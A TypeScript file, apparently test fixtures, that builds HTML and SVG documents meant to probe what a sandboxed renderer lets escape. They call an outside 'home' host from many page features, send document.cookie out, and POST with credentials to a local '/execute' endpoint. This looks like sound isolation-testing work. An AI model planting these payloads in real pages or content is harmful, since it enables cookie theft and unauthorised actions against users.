/** Documents that do all they can to read, send and call home; each call says what got through. */

/** @param home Where stolen things go. */
export function attackHtml(home: string): string {
  return `<!doctype html>
<title>page</title>
<base href="${home}/">
<meta http-equiv="refresh" content="1; url=${home}/markup-refresh">
<link rel="stylesheet" href="${home}/markup-stylesheet">
<link rel="prefetch" href="${home}/markup-prefetch">
<link rel="icon" href="${home}/markup-icon">
<style>@import url("${home}/markup-import"); body { background: url("${home}/markup-background") }
@font-face { font-family: x; src: url("${home}/markup-font") } p { font-family: x }</style>
<p>text
<img src="${home}/markup-image" onerror="fetch('${home}/script-onerror')">
<iframe src="${home}/markup-frame"></iframe>
<iframe srcdoc="<script>fetch('${home}/script-srcdoc')</script>"></iframe>
<object data="${home}/markup-object"></object><embed src="${home}/markup-embed">
<video src="${home}/markup-video" autoplay></video>
<form id="f" action="${home}/markup-form" method="post"><input name="a" value="b" autofocus
  onfocus="fetch('${home}/script-onfocus')"></form>
<script>
document.title = 'ran'
fetch('${home}/script-fetch?' + encodeURIComponent(document.cookie))
navigator.sendBeacon('${home}/script-beacon')
fetch('/execute', { method: 'POST', body: '{"script":""}', credentials: 'include' })
  .then((response) => fetch('${home}/script-api?' + response.status))
try { localStorage.setItem('a', 'b'); fetch('${home}/script-storage') } catch {}
setTimeout(() => document.getElementById('f').submit(), 300)
</script>
<script src="${home}/script-source"></script>`
}

/** The same as a drawing, or as any other XML. */
export function attackSvg(home: string): string {
  return `<?xml version="1.0"?>
<?xml-stylesheet href="${home}/markup-stylesheet" type="text/css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  onload="fetch('${home}/script-onload')">
<style>@import url("${home}/markup-import");</style>
<image href="${home}/markup-image" width="9" height="9"/>
<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml">
<iframe src="${home}/markup-frame"></iframe><img src="${home}/markup-img"/>
<form id="f" action="${home}/markup-form" method="post"></form></body></foreignObject>
<script>
fetch('${home}/script-fetch')
fetch('/execute', { method: 'POST', body: '{}' }).then(() => fetch('${home}/script-api'))
setTimeout(() => document.getElementById('f').submit(), 300)
</script>
</svg>`
}
